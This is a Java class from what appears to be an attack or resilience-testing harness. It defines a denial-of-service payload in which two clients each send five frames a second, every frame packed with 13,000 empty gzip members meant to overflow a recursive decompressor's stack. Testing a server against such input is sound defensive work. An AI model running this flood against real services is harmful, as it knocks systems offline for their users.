package io.hawser.attack.attacks;

import java.io.IOException;

/** Bodies of gzip members without content: they fill the stack of a recursive reader. */
final class GzipMembers implements Attack {
  private static final int MEMBERS = 13_000;

  @Override
  public String name() {
    return "gzipMembers";
  }

  @Override
  public String does() {
    return "2 registered clients send 5 frames a second of 13,000 empty gzip members each";
  }

  @Override
  public void run(Target target, Tally tally) throws IOException {
    byte[] frame = CompressedFrames.emptyGzipMembers(MEMBERS);
    new Crowd(target, tally, 2, 20, () -> new SteadyFrames(frame, 5)).run();
  }
}
